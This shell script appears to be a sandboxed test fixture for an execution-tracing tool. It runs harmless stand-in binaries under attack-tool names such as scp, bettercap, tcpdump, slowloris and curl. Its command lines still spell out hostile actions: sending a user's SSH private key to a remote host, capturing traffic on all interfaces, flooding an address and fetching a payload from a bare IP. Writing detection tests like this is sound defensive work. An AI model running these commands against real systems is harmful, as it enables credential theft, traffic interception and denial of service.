#!/bin/sh
# Tools that copy, intercept, listen and flood, and one that is given a bare address.
[ "${EXECTRAIL_SANDBOX:-}" = 1 ] && [ $$ -eq 2 ] || { echo "only below: exectrail replay record-live" >&2; exit 97; }
set -eu

case $1 in
  copier)
    cp /usr/bin/true /usr/local/bin/scp
    /usr/local/bin/scp /home/alice/.ssh/id_rsa mallory@203.0.113.9:/drop
    ;;
  interceptor)
    cp /usr/bin/sleep /usr/local/bin/bettercap
    /usr/local/bin/bettercap 0.05
    ;;
  sniffer)
    cp /usr/bin/true /usr/local/bin/tcpdump
    /usr/local/bin/tcpdump -i any -w /var/lib/x.pcap
    ;;
  flooder)
    echo 'select(undef, undef, undef, 0.05);' >/usr/local/lib/slowloris.pl
    perl /usr/local/lib/slowloris.pl 198.51.100.7
    ;;
  address)
    cp /usr/bin/true /usr/local/bin/curl
    /usr/local/bin/curl -o /tmp/p http://203.0.113.5/p
    ;;
esac
sleep 0.05
